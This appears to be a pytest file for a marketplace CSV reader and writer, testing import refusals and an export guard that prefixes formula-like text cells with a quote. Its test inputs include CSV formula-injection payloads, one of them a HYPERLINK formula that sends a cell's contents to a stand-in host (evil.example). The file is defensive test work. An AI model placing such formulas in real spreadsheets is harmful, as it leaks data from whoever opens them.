"""marketplace.csvfiles: every file-level refusal has its code, in the caller's error class;
the writer of every export neutralises formulas in text cells and leaves numbers alone."""

import re
from decimal import Decimal
from pathlib import Path

import pytest

from marketplace.csvfiles import csv_cell, csv_lines, csv_text, read_csv
from marketplace.errors import DomainError


class AppError(DomainError):
    pass


def read(data: bytes, **kwargs):
    options = {"columns": ("sku", "qty"), "optional": ("note",), "max_bytes": 1000, "max_rows": 3, "error": AppError}
    return read_csv(data, **{**options, **kwargs})


def test_rows_with_their_line_numbers_any_column_order_and_optional_columns():
    data = "\ufeffQty , SKU\n2,A\n\n ,  \n5 , B ,extra\n".encode()
    assert read(data) == [(2, {"sku": "A", "qty": "2", "note": ""}), (5, {"sku": "B", "qty": "5", "note": ""})]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_excel_delimiters(delimiter):
    data = delimiter.join(["sku", "qty", "note"]).encode() + b"\n" + delimiter.join(["A", "1", "x"]).encode()
    assert read(data) == [(2, {"sku": "A", "qty": "1", "note": "x"})]


def test_a_short_row_reads_missing_cells_as_blank():
    assert read(b"sku,qty,note\nA\n") == [(2, {"sku": "A", "qty": "", "note": ""})]


@pytest.mark.parametrize(
    ("data", "kwargs", "code", "extra"),
    [
        (b"sku,qty\n" + b"A,1\n" * 300, {}, "file_too_large", {"max_bytes": 1000}),
        ("sku,qty\né,1\n".encode("latin-1"), {}, "file_encoding", {}),
        (b"  \n", {}, "import_empty", {}),
        (b"sku,qty\n\n", {}, "import_empty", {}),
        (b"sku,note\nA,x\n", {}, "import_columns_missing", {"missing": ["qty"]}),
        (b"sku,qty\nA,1\nB,2\nC,3\nD,4\n", {}, "import_too_many_rows", {"max_rows": 3}),
        # An unbalanced quote runs to the end of the file, past the csv module's field limit.
        (b'sku,qty\n"A,1\n' + b"x" * 140_000, {"max_bytes": 10**6}, "file_corrupt", {}),
        # PostgreSQL refuses NUL in text: a cell holding one would fail the lookup with a 500.
        (b"sku,qty\nA,1\nB\x00,2\n", {}, "file_corrupt", {}),
    ],
)
def test_refusals(data, kwargs, code, extra):
    with pytest.raises(AppError) as info:
        read(data, **kwargs)
    assert (info.value.code, info.value.extra) == (code, extra)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://evil.example/?x="&D2,"Click")', '\'=HYPERLINK("https://evil.example/?x="&D2,"Click")'),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("Shop = good", "Shop = good"),
        ("", ""),
        (None, ""),
        ("上海=", "上海="),
        (Decimal("-12.30"), "-12.30"),
        (Decimal("0.00"), "0.00"),
        (-5, "-5"),
        (Decimal("-1E+1"), "-10"),
    ],
)
def test_a_cell_is_written_as_text_without_a_formula_or_as_a_number(value, written):
    assert csv_cell(value) == written


def test_rows_are_quoted_and_the_bom_starts_only_the_first_line():
    rows = [["name", "amount"], ['=A1, "quoted"', Decimal("-1.50")], ["line\nbreak", 3]]
    assert list(csv_lines(rows, bom=True)) == [
        "\ufeffname,amount\r\n",
        '"\'=A1, ""quoted""",-1.50\r\n',
        '"line\nbreak",3\r\n',
    ]
    assert csv_text(rows) == 'name,amount\r\n"\'=A1, ""quoted""",-1.50\r\n"line\nbreak",3\r\n'


def test_what_is_written_reads_back_with_the_reader():
    text = csv_text([["sku", "qty"], ["-A", 2]])
    assert read(text.encode()) == [(2, {"sku": "'-A", "qty": "2", "note": ""})]


def test_every_export_goes_through_the_kernel_writer():
    """No module writes CSV with the csv module itself: it would skip the formula guard."""
    root = Path(__file__).resolve().parents[2]
    apps = ["marketplace", "merchants", "catalog", "promotions", "orders", "settlements", "risk"]
    offenders = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(Dict)?[Ww]riter\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == ["marketplace/csvfiles.py"]
